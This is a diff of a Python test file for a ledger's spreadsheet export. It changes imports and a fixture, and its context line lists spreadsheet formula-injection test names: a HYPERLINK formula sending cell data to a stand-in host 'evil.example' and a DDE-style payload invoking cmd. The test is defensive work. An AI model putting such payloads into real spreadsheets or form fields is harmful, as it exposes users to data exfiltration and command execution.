@@ -3,9 +3,9 @@
 from __future__ import annotations
 
 import io
+from collections.abc import Callable, Iterator
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
-from pathlib import Path
 
 import openpyxl
 import pandas as pd
@@ -21,8 +21,8 @@ NAMES = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "@SUM(1+9)*cmd|' /C c
 
 
 @pytest.fixture
-def ledger(tmp_path: Path):
-    with Ledger(data_dir=tmp_path, clock=lambda: NOW) as led:
+def ledger(ledger_url: Callable[..., str]) -> Iterator[Ledger]:
+    with Ledger(ledger_url(), clock=lambda: NOW) as led:
         at = NOW - timedelta(hours=2)
         for n, name in enumerate(NAMES):
             cid = led.create_campaign(name)
